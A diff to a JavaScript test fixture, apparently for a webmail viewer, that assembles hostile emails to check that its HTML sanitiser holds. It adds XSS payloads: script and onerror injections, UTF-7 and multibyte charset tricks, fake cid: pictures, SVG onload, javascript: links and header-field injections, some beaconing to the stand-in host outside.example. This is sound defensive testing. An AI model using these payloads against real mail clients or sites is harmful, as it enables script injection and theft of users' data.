@@ -1,11 +1,10 @@
-// Messages made to do harm in the reader's browser. Each tries to run `pwned()`, to reach outside.example, to cover our
+// Messages made to do harm in the reader's browser. Each tries to run a script, to reach outside.example, to cover our
 // page or to take it away. What a reader should still see is the word "czytelne".
+import { attacks, OUT, run } from "./attacks.mjs";
+import { message } from "./mail.mjs";
 
-const OUT = "https://outside.example";
-const run = "parent.pwned=1;window.pwned=1;top.pwned=1;fetch('https://outside.example/ran')";
-
-/** Name and HTML of each. */
-export const samples = [
+/** Name and HTML of those that were thought up one by one. */
+const alone = [
   ["a script", `<script>${run}</script><p>czytelne</p>`],
   ["a script from elsewhere", `<script src="${OUT}/a.js"></script><p>czytelne</p>`],
   ["a script in broken tags", `<scr<script>ipt>${run}</scr</script>ipt><p>czytelne</p>`],
@@ -36,3 +35,84 @@ export const samples = [
   ["names of our own parts", `<div id="main"></div><form id="picker"><input name="action"></form><img name="htmx"><a id="htmx"></a><p hx-get="/clients" hx-trigger="load" data-act="assign" data-unfold="open">czytelne</p>`],
   ["ten thousand layers", `${"<div>".repeat(10_000)}<p>czytelne</p>`],
 ];
+
+const bang = `<img src=x onerror="${run}"><script>${run}</script>`;
+const utf16 = (text, big) => (big ? Buffer.from(text, "utf16le").swap16() : Buffer.from(text, "utf16le"));
+const utf7 = (text) => text.replace(/[<>"=;:/']/g, (c) => `+${utf16(c, true).toString("base64").replace(/=+$/, "")}-`);
+const seen = "<p>czytelne</p>";
+
+/** Bytes that say something else in another charset than the one they claim, or than the one a browser guesses. */
+const charsets = [
+  ["utf-7", utf7(bang) + "czytelne"],
+  ["us-ascii", `<meta charset=utf-7>${utf7(bang)}czytelne`],
+  ["utf-8", `<meta http-equiv=content-type content="text/html;charset=utf-7">${utf7(bang)}${seen}`],
+  ["utf-16le", utf16(seen + bang, false)],
+  ["utf-16be", utf16(seen + bang, true)],
+  ["utf-16", Buffer.concat([Buffer.from([0xfe, 0xff]), utf16(seen + bang, true)])],
+  ["utf-8", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(seen + bang)])],
+  ["iso-2022-jp", `${seen}<img alt="\x1b$B" src=x title="\x1b(B onerror=${run} ">`],
+  ["iso-2022-jp", `${seen}\x1b(J<img title="\\" onerror=${run} src=x>`],
+  ["shift_jis", Buffer.concat([Buffer.from(`${seen}<img alt="`), Buffer.from([0x81]), Buffer.from(`" src=x onerror="${run}">`)])],
+  ["gb2312", Buffer.concat([Buffer.from(`${seen}<img alt='`), Buffer.from([0x82]), Buffer.from(`' onerror=${run} src=x>`)])],
+  ["big5", Buffer.concat([Buffer.from(`${seen}<a title="`), Buffer.from([0xa1]), Buffer.from(`" href="javascript:${run}">x</a>`)])],
+  ["utf-8", Buffer.concat([Buffer.from(seen), Buffer.from([0xc0, 0xbc]), Buffer.from(`img src=x onerror="${run}">`), Buffer.from([0xe0, 0x80, 0xbc]), Buffer.from("script>")])],
+  ["x-user-defined", `${seen}${bang}`],
+  ["replacement", `${seen}${bang}`],
+  ["x'\"><script>", `${seen}${bang}`],
+];
+
+/** Pictures within the message that are none. */
+const picture = (id, type = "image/png", body = bang) => ({ type, name: `${id}.png`, id: `${id}@x`, body });
+const inside = [
+  [`<img src="cid:a@x">`, [picture("a", "text/html")]],
+  [`<img src="cid:a@x">`, [picture("a", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="${OUT}/svg"/></svg>`)]],
+  [`<img src="cid:a@x">`, [picture("a", "image/png", `<html>${bang}`)]],
+  [`<img src='cid:a"onerror="${run}@x'>`, [picture('a"onerror="x')]],
+  [`<iframe src="cid:a@x"></iframe><object data="cid:a@x"></object><a href="cid:a@x">x</a>`, [picture("a", "text/html")]],
+  [`<img src="cid:../../../../sign-out"><img src="cid:/sign-out"><img src="cid://outside.example/x">`, [picture("a")]],
+  [`<link rel=stylesheet href="cid:a@x"><style>@import "cid:a@x"</style><script src="cid:a@x"></script>`, [picture("a", "text/css", `*{background:url(${OUT}/css)}`)]],
+  [`<img src="mid:1@x/a@x"><img src="content-location:a"><img src="thismessage:/a.png"><img src="a@x.png">`, [picture("a")]],
+  [`<img src="cid:a%40x"><img src="CID:A@X"><img src="cid:a@x#${OUT}"><img src="cid:a@x?${OUT}">`, [picture("a", "application/xhtml+xml")]],
+];
+
+/** What stands where no markup belongs: in subjects, names, addresses, names of files, and the words that a search shows. */
+const texts = [
+  `<script>${run}</script>`, `"><img src=x onerror=${run}>`, `'><svg/onload=${run}>`, `</title></textarea></style><script>${run}</script>`,
+  `" autofocus onfocus=${run} x="`, `' autofocus onfocus=${run} x='`, `javascript:${run}`, `\u202e\u2066<b>\u200f<img src=x onerror=${run}>`,
+  `{{constructor.constructor('top.pwned=1')()}}\${top.pwned=1}<%=1%>`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;img src=x onerror=${run}&#62;`,
+  `--><img src=x onerror=${run}><!--`, `]]><img src=x onerror=${run}>`, `<mark><img src=x onerror=${run}></mark>`, `<a href="javascript:${run}">x</a>`,
+  `\u0000<\u0000img src=x onerror=${run}>`, `<iframe srcdoc="<script>${run}</script>">`, `<meta http-equiv=refresh content="0;url=${OUT}">`,
+  `${"<b>".repeat(400)}<img src=x onerror=${run}>`, `＜script＞${run}＜/script＞`,
+];
+
+const word = (text) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
+const from = "Wróg <wrog@outside.example>";
+
+/** All of them as messages; `name` says what each tries. */
+export const letters = [
+  ...alone.map(([name, html]) => ({ name, html })),
+  ...attacks,
+  ...charsets.map(([charset, body], n) => ({ name: `the charset ${charset}, ${n}`, html: { type: `text/html; charset="${charset}"`, body } })),
+  ...inside.map(([html, parts], n) => ({ name: `a picture that is none, ${n}`, html: seen + html, parts })),
+  ...texts.map((text, n) => ({
+    name: `markup where none belongs, ${n}`,
+    html: seen + text,
+    text: `znacznikowo ${text} znacznikowo`,
+    from: `${word(text)} <wrog@outside.example>`,
+    to: `${word(text)} <"${text.replace(/[^\x20-\x7e]|["\\]/g, "").slice(0, 60)}"@lipowa7.example>`,
+    subject: text,
+    parts: [
+      { type: "text/html", name: text.replace(/["\\\0]/g, "'"), body: bang },
+      { type: "image/svg+xml", name: `${n}.svg`, body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>` },
+      { type: "application/pdf", name: `${n}.pdf`, body: `%PDF-1.4 ${bang}` },
+      { type: "text/plain", name: `${n}.txt`, body: bang },
+    ],
+  })),
+].map(({ name, subject, ...rest }, n) => ({
+  name,
+  html: rest.html,
+  parts: rest.parts ?? [],
+  // What is in no charset at all cannot be read, only be harmless.
+  expected: /the charset (utf-16|replacement), /.test(name) ? undefined : "czytelne",
+  bytes: message({ from, text: "", ...rest, subject: `Wrogi ${n}: ${subject ?? name}`.replaceAll("\0", "") }),
+}));
